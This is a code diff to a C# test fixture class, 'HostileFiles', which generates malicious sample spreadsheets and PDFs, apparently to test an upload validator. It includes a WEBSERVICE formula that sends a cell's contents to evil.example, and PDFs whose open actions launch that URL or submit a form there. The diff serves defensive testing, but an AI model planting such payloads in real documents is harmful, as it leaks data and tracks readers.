@@ -108,7 +108,10 @@ public static class HostileFiles
 
     public static byte[] CellTooLong() => Sheet1($"<row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>{new string('长', 40_000)}</t></is></c></row>");
 
-    public static byte[] FormulaCell() => Sheet1("<row r=\"1\"><c r=\"A1\"><f>WEBSERVICE(\"http://evil.example/?\"&amp;A2)</f><v>0</v></c></row>");
+    public static byte[] FormulaCell() => FormulaCell("WEBSERVICE(\"http://evil.example/?\"&A2)");
+
+    /// <summary>A real return whose first sheet has one cell with the given formula.</summary>
+    public static byte[] FormulaCell(string formula) => Sheet1($"<row r=\"1\"><c r=\"A1\"><f>{System.Security.SecurityElement.Escape(formula)}</f><v>0</v></c></row>");
 
     /// <summary>The first worksheet of a real return replaced by the given sheet data.</summary>
     private static byte[] Sheet1(string sheetData) =>
@@ -134,6 +137,11 @@ public static class HostileFiles
     public static byte[] PdfWithJavaScript() => Ascii(
         "%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\n" +
         "3 0 obj << /S /JavaScript /JS (app.launchURL\\(\"http://evil.example\"\\);) >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n");
+
+    /// <summary>A PDF that, when opened, submits its form to a server (and so tells it who opened it, and when).</summary>
+    public static byte[] PdfSubmittingOnOpen() => Ascii(
+        "%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\n" +
+        "3 0 obj << /S /SubmitForm /F << /FS /URL /F (http://evil.example/opened) >> /Flags 4 >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n");
 
     /// <summary>A PDF carrying an executable as an embedded file.</summary>
     public static byte[] PdfWithEmbeddedFile() => Ascii(
